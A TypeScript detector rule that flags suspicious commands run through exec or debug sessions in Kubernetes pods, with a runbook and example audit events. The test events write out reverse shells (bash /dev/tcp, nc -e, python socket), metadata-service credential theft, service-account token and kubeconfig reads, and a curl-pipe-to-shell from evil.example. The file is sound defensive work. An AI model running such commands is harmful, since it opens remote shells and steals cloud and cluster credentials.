import type { AuditEvent } from '../../ingest';
import { actor, actorName, objectName, succeeded } from '../../kube';
import { redact } from '../../util';
import type { RuleDetector } from '../types';
import { baseEntities } from './lib/actor';
import { commandRisks, HIGH_RISKS, sessionCommand } from './lib/command-analysis';
import { exampleEvent } from './lib/example-events';

function isSession(event: AuditEvent): boolean {
  const ref = event.objectRef;
  if (ref?.resource !== 'pods') return false;
  if (ref.subresource === 'exec') return event.verb === 'create' || event.verb === 'get';
  return ref.subresource === 'ephemeralcontainers' && (event.verb === 'patch' || event.verb === 'update');
}

function exec(namespace: string, pod: string, ...command: string[]) {
  return exampleEvent({
    verb: 'create',
    resource: 'pods',
    subresource: 'exec',
    namespace,
    name: pod,
    requestUri: `/api/v1/namespaces/${namespace}/pods/${pod}/exec?${command.map((c) => `command=${encodeURIComponent(c)}`).join('&')}&container=app&stdin=true&tty=true`,
    responseCode: 101,
  });
}

export const suspiciousExecCommand: RuleDetector<AuditEvent> = {
  id: 'audit.suspicious-exec-command',
  kind: 'rule',
  source: 'eks-audit',
  title: 'Suspicious command run in a pod',
  description:
    'An exec or debug session ran a command that opens a reverse shell, reaches the instance metadata service or ' +
    'the Pod Identity agent (in any address encoding), reads a service account token or a node credential, or ' +
    'downloads from the network. These are the first moves after landing in a container: steal credentials, then leave.',
  severity: 'high',
  mitre: ['T1609', 'T1552.005', 'T1528', 'T1105', 'T1059.004'],
  dedupeMinutes: 60,
  equivalents: {
    falco: 'none',
    guardduty: 'none',
    elastic:
      'Kubernetes Pod Exec Potential Reverse Shell; Kubernetes Pod Exec Cloud Instance Metadata Access; ' +
      'Kubernetes Pod Exec Sensitive File or Credential Path Access; Kubernetes Pod Exec with Curl or Wget to HTTPS',
    sigma: 'none',
  },
  runbook:
    'Treat the pod as compromised: capture it (kubectl debug or a node snapshot), then delete it. Rotate whatever the ' +
    'command could reach: the service account token, the IRSA or Pod Identity role, the node role. Find how the ' +
    'person or token obtained exec rights, and review what the same identity did before and after.',

  detect(event) {
    if (!isSession(event)) return undefined;
    const command = sessionCommand(event);
    if (!command) return undefined;
    const risks = commandRisks(command);
    if (risks.length === 0) return undefined;
    const allowed = succeeded(event);
    const high = risks.some((r) => HIGH_RISKS.has(r.kind));
    const shown = redact(command).slice(0, 300);
    return {
      severity: !allowed ? 'medium' : high ? 'high' : 'medium',
      title: allowed ? undefined : 'Suspicious command attempted in a pod (denied)',
      summary:
        `${actorName(event)} ${allowed ? 'ran' : 'tried to run'} "${shown}" in pod ${objectName(event)}: ` +
        `${risks.map((r) => r.detail).join('; ')}.`,
      entities: { ...baseEntities(event), command: shown, risks: risks.map((r) => r.kind) },
      evidence: `${event.verb} pods/${event.objectRef?.subresource} ${objectName(event)} command="${shown}" -> ${event.responseCode ?? '?'}`,
      dedupeKey: `${actor(event).username}|${objectName(event)}|${risks.map((r) => r.kind).join(',')}`,
    };
  },

  examples: {
    fires: [
      exec('payments', 'api-7d9f', 'sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'),
      exec('web', 'web-1', 'bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'),
      exec('web', 'web-1', 'sh', '-c', 'nc 198.51.100.7 4444 -e /bin/sh'),
      exec('web', 'web-1', 'curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
      exec('web', 'web-1', 'curl', '-s', 'http://2852039166/latest/'),
      exec('web', 'web-1', 'wget', '-qO-', 'http://0xa9fea9fe/'),
      exec('web', 'web-1', 'curl', 'http://[fd00:ec2::254]/latest/api/token', '-X', 'PUT'),
      exec('web', 'web-1', 'curl', '-s', 'http://169.254.170.23/v1/credentials'),
      exec('web', 'web-1', 'cat', '/var/lib/kubelet/kubeconfig'),
      exec('web', 'web-1', 'sh', '-c', 'curl -fsSL https://evil.example/x.sh | sh'),
      exec(
        'web',
        'web-1',
        'python3',
        '-c',
        'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",4444))',
      ),
      exec('web', 'web-1', 'wget', 'https://downloads.example.org/tool.tar.gz'),
    ],
    quiet: [
      exec('web', 'web-1', 'sh'),
      exec('web', 'web-1', 'ls', '-la', '/app'),
      exec('web', 'web-1', 'curl', '-s', 'http://localhost:8080/healthz'),
      exec('web', 'web-1', 'cat', '/etc/os-release'),
      exampleEvent({ verb: 'get', resource: 'pods', subresource: 'log', namespace: 'web', name: 'web-1' }),
    ],
  },
};
